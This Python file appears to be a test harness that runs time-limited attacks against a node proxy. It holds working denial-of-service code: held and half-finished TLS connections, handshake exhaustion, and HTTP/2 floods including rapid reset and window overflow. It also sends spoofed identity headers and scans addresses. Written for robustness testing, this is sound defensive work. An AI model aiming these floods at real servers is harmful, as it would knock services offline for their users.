"""What a hostile program does to a node proxy: one process for one attack, bounded in time and count, run by attack.py inside the
attacker's own network namespace. Prints one line of JSON: what it got to do.

    attacks.py NAME --to ADDRESS --seconds N [--root FILE --leaf FILE --key FILE] [--authority HOST:PORT]

Traffic goes to ADDRESS only. Nothing of the proxy is used here: TLS is Python's, HTTP/2 frames are made by hand.
"""

import argparse
import json
import os
import random
import selectors
import socket
import ssl
import struct
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.realpath(__file__)), "../tests/node"))

from harness.hbone import client_hello  # noqa: E402
from harness.hbone_frames import ACK, DATA, END_HEADERS, HEADERS, PING, PREFACE, RST_STREAM, SETTINGS, WINDOW_UPDATE, connect, frame  # noqa: E402

PRIORITY, UNKNOWN = 2, 0x42
MOST_CONNECTIONS = 2000  # of one attack at one time
BURST = 2000             # frames composed at once
STREAMS_A_CONNECTION = 20_000

# Sources of the silent ones: one attacker rarely has a single address.
CONNECT_TIMEOUT = 3.0


class Attack:
    def __init__(self, options):
        self.to, self.port, self.authority = options.to, options.port, options.authority
        self.sources = options.sources.split(",") if options.sources else [None]
        self.end = time.monotonic() + options.seconds
        self.tls = None
        if options.leaf:
            self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
            self.tls.minimum_version = ssl.TLSVersion.TLSv1_3
            self.tls.check_hostname = False
            self.tls.load_verify_locations(options.root)
            self.tls.load_cert_chain(options.leaf, options.key)
            self.tls.set_alpn_protocols(["h2"])
        self.count = {}

    def add(self, what, number=1):
        self.count[what] = self.count.get(what, 0) + number

    def left(self):
        return self.end - time.monotonic()

    def dial(self, blocking=True):
        sock = socket.socket()
        source = self.sources[self.count.get("connections", 0) % len(self.sources)]
        if source:
            sock.bind((source, 0))
        sock.settimeout(CONNECT_TIMEOUT)
        sock.connect((self.to, self.port))
        self.add("connections")
        sock.setblocking(blocking)
        return sock

    def tunnel(self):
        """An authenticated HTTP/2 connection whose preface and SETTINGS are out."""
        sock = self.tls.wrap_socket(self.dial())
        self.add("tunnels")
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0))
        sock.settimeout(0.5)
        return sock


# ------------------------------------------------------------------------------------------------------ before any certificate
def hold(attack, first):
    """As many connections as there may be, each of which says `first` and no more; those that are ended are replaced."""
    selector, held = selectors.DefaultSelector(), 0
    while attack.left() > 0:
        if held < MOST_CONNECTIONS:
            try:
                sock = attack.dial(blocking=False)
                if first:
                    sock.send(first)
            except OSError:
                attack.add("refused")
                time.sleep(0.01)
                continue
            selector.register(sock, selectors.EVENT_READ)
            held += 1
            wait = 0
        else:
            wait = min(0.05, max(0, attack.left()))
        for key, _ in selector.select(wait):
            try:
                over = not key.fileobj.recv(4096)
            except OSError:
                over = True
            if over:
                selector.unregister(key.fileobj)
                key.fileobj.close()
                held -= 1
                attack.add("ended by the proxy")
    attack.count["held at the end"] = held


def silent(attack):
    hold(attack, b"")


def half_hello(attack):
    hold(attack, client_hello()[:100])


def whole_hello(attack):
    """The server has signed and waits for a Finished that never comes."""
    hold(attack, client_hello())


def slow_hello(attack):
    """A byte a turn on each of many connections."""
    hello, socks = client_hello(), []
    at = {}
    while attack.left() > 0:
        if len(socks) < MOST_CONNECTIONS // 4:
            try:
                socks.append(attack.dial(blocking=False))
            except OSError:
                attack.add("refused")
        for sock in socks[:]:
            place = at.get(sock, 0)
            try:
                sock.send(hello[place:place + 1])
                at[sock] = min(place + 1, len(hello) - 2)
                attack.add("bytes")
            except OSError:
                socks.remove(sock)
                attack.add("ended by the proxy")
            if attack.left() <= 0:
                break
        time.sleep(0.02)


def garbage(attack):
    """Connections one after the other that begin with anything but TLS."""
    chance = random.Random(7)
    kinds = [b"GET / HTTP/1.1\r\nhost: x\r\n\r\n", PREFACE, b"\x16\x03\x01\xff\xff" + bytes(512), b"\x15\x03\x01\x00\x02\x02\x28", b"SSH-2.0-x\r\n"]
    while attack.left() > 0:
        try:
            sock = attack.dial()
            sock.sendall(chance.choice(kinds) if chance.random() < 0.5 else chance.randbytes(chance.randrange(1, 2000)))
            sock.settimeout(0.2)
            sock.recv(4096)
        except OSError:
            pass
        else:
            sock.close()


def handshakes(attack):
    """Complete handshakes without a certificate: each costs the server a signature."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.minimum_version = ssl.TLSVersion.TLSv1_3
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    while attack.left() > 0:
        try:
            with context.wrap_socket(attack.dial()):
                attack.add("handshakes")
        except OSError:
            attack.add("refused")


# ------------------------------------------------------------------------------------------------------- with a certificate
def flood(attack, compose, read=True):
    """Tunnel after tunnel, each sent `compose(first stream)` until the proxy ends it."""
    while attack.left() > 0:
        try:
            sock = attack.tunnel()
        except OSError:
            attack.add("tunnels refused")
            time.sleep(0.02)
            continue
        stream = 1
        try:
            while attack.left() > 0 and stream < 2 * STREAMS_A_CONNECTION:
                data, frames, stream = compose(stream)
                sock.sendall(data)
                attack.add("frames", frames)
                if read:
                    drain(sock)
        except TimeoutError:
            attack.add("blocked")
            # It reads no more: an unread peer stays as it is, to see what it costs.
            while attack.left() > 0 and alive(sock):
                time.sleep(0.1)
        except OSError:
            attack.add("tunnels ended by the proxy")
        sock.close()


def drain(sock):
    sock.setblocking(False)
    try:
        while sock.recv(1 << 16):
            pass
        raise ConnectionResetError
    except (ssl.SSLWantReadError, BlockingIOError):
        pass
    finally:
        sock.settimeout(0.5)


def alive(sock):
    try:
        return socket.socket.send(sock, b"") == 0
    except OSError:
        return False


def same(data):
    """The same frames again and again, on no stream of their own."""
    return lambda stream: (data * BURST, BURST, stream)


def requests(make, count=200):
    """`make(stream)` for so many new streams."""
    def compose(stream):
        return b"".join(make(stream + 2 * i) for i in range(count)), count, stream + 2 * count
    return compose


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def get(stream):
    headers = literal(b":method", b"GET") + literal(b":scheme", b"http") + literal(b":authority", b"x") + literal(b":path", b"/")
    return frame(HEADERS, END_HEADERS | 1, stream, headers)


def on_one_stream(attack, data, count=BURST):
    """A request first, then `data` on its stream."""
    def compose(stream):
        opened = connect(1, attack.authority) if stream == 1 else b""
        return opened + data * count, count, 3
    return compose


FLOODS = {
    "ping": lambda a: same(frame(PING, 0, 0, bytes(8))),
    "settings": lambda a: same(frame(SETTINGS, 0, 0)),
    "rapid reset": lambda a: requests(lambda s: connect(s, a.authority) + frame(RST_STREAM, 0, s, struct.pack("!I", 8))),
    "window overflow": lambda a: requests(lambda s: connect(s, a.authority) + frame(WINDOW_UPDATE, 0, s, struct.pack("!I", 0x7FFFFFFF))),
    "malformed headers": lambda a: requests(lambda s: frame(HEADERS, END_HEADERS, s, literal(b":method", b"CONNECT") + literal(b"Upper", b"x"))),
    "refused authorities": lambda a: requests(lambda s: connect(s, "203.0.113.9:80")),
    "plain GET": lambda a: requests(get),
    "priority": lambda a: same(frame(PRIORITY, 0, 1, struct.pack("!IB", 0, 16))),
    "empty DATA": lambda a: on_one_stream(a, frame(DATA, 0, 1)),
    "tiny DATA": lambda a: on_one_stream(a, frame(DATA, 0, 1, b"x"), 500),
    "unknown frames": lambda a: same(frame(UNKNOWN, 0, 0, bytes(4))),
    "window updates": lambda a: same(frame(WINDOW_UPDATE, 0, 0, struct.pack("!I", 1))),
}


def make_flood(name, read):
    return lambda attack: flood(attack, FLOODS[name](attack), read)


def labels(attack):
    """One identity that says of itself, in each request, that it is somebody else."""
    number = 0
    while attack.left() > 0:
        try:
            sock = attack.tunnel()
            for stream in range(1, 400, 2):
                number += 1
                baggage = f"k8s.namespace.name=n{number},service.name=s{number},k8s.deployment.name=d{number}".encode()
                headers = (literal(b":method", b"CONNECT") + literal(b":authority", attack.authority.encode()) + literal(b"baggage", baggage)
                           + literal(b"x-forwarded-network", b"elsewhere"))
                sock.sendall(frame(HEADERS, END_HEADERS, stream, headers) + frame(DATA, 1, stream))
                attack.add("requests")
                drain(sock)
                time.sleep(0.001)
            sock.close()
        except OSError:
            attack.add("tunnels ended by the proxy")


def scan(attack):
    """Connects to one address after the other, from a pod in the mesh."""
    chance = random.Random(11)
    socks = []
    while attack.left() > 0:
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((f"198.18.{chance.randrange(256)}.{chance.randrange(1, 255)}", 80))
        attack.add("addresses")
        socks.append(sock)
        if len(socks) > 400:
            socks.pop(0).close()
        time.sleep(0.001)


ATTACKS = {
    "silent": silent, "half hello": half_hello, "whole hello": whole_hello, "slow hello": slow_hello, "garbage": garbage, "handshakes": handshakes,
    **{name: make_flood(name, True) for name in FLOODS},
    **{f"{name}, unread": make_flood(name, False) for name in ("ping", "settings", "refused authorities", "window overflow", "plain GET")},
    "labels": labels, "admin": silent, "scan": scan,
}
UNAUTHENTICATED = {"silent", "half hello", "whole hello", "slow hello", "garbage", "handshakes", "admin", "scan"}


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("name", choices=ATTACKS)
    parser.add_argument("--to", required=True)
    parser.add_argument("--port", type=int, default=15008)
    parser.add_argument("--seconds", type=float, default=4)
    parser.add_argument("--authority", default="")
    parser.add_argument("--sources", default="", help="addresses to come from, in turn")
    for file in ("root", "leaf", "key"):
        parser.add_argument(f"--{file}")
    attack = Attack(parser.parse_args())
    os.nice(19)  # what this program computes is not what is measured
    ATTACKS[parser.parse_args().name](attack)
    print(json.dumps(attack.count))


if __name__ == "__main__":
    main()
